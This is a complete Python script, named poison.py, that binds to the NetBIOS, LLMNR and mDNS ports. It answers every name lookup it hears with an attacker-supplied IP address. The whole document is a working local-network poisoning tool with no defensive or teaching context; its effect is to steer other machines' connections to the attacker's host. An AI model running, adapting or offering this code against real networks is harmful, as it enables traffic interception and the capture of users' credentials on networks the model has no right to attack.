#!/usr/bin/python3
"""Answers every name asked for by NetBIOS (UDP 137), LLMNR (UDP 5355) and mDNS (UDP 5353) with its own address: poison.py ADDRESS."""
import select
import socket
import struct
import sys

own = socket.inet_aton(sys.argv[1])
netbios = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
netbios.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
netbios.bind(("", 137))
llmnr = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
llmnr.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
llmnr.bind(("", 5355))
llmnr.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.252") + own)
mdns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mdns.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
mdns.bind(("", 5353))
mdns.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + own)
mdns.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, own)
while True:
    for ready in select.select([netbios, llmnr, mdns], [], [])[0]:
        data, peer = ready.recvfrom(512)
        if len(data) < 17 or data[2] & 0x80:
            continue
        end = data.index(0, 12) + 5  # after the name: type and class
        if ready is netbios:
            answer = data[:2] + b"\x85\x00\0\0\0\x01\0\0\0\0" + data[12:end] + struct.pack(">IHH", 165, 6, 0) + own
        elif ready is mdns:
            answer = b"\0\0\x84\0\0\0\0\x01\0\0\0\0" + data[12 : end - 4] + struct.pack(">HHIH", 1, 0x8001, 120, 4) + own
            peer = ("224.0.0.251", 5353)
        else:
            answer = data[:2] + b"\x80\x00\0\x01\0\x01\0\0\0\0" + data[12:end] + data[12:end] + struct.pack(">IH", 30, 4) + own
        ready.sendto(answer, peer)
